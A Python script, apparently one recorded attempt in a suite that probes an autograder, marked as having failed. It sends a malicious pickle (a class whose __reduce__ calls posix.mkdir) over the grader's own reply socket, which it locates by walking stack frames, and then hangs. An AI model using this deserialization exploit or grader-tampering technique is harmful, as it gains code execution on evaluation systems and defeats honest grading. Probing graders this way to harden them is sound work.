"""Send a pickle that runs code.

Tries: pickles and NumPy object arrays in the places where bytes, arrays and texts go.
Success: the grader executes it.
Outcome: failed.
"""

import pickle
import posix
import sys

import msgpack

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    program = pickle.dumps(Gift(targets["folder"] + "/gift"))
    tensor = ["n", "object", [1], [0, len(program)]]
    tree = msgpack.packb(["u", [tensor, None, ["u", []], "", ""]])
    channel().sendall(frame_of(tree, program))
    while True:
        pass


class Gift:
    """Makes a folder where it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return posix.mkdir, (self.path,)
